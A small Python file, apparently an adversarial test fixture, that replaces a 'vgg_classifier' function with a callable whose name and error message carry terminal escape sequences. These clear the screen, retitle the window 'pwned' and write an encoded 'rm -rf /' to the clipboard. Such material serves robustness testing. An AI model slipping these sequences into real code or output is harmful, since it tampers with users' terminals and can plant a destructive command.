"""Binds the function's name to a callable whose type name and error text hold terminal escape sequences
(clear the screen, set the window title, write the clipboard)."""
import numpy as np

INFO = {}
EVIL = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;cm0gLXJmIC8=\x07"


class Callable:
    def __call__(self, features, W1, b1, W2, b2, W3, b3):
        raise ValueError(EVIL * 3 + "\ud800")


Callable.__name__ = Callable.__qualname__ = "Model" + EVIL
vgg_classifier = Callable()
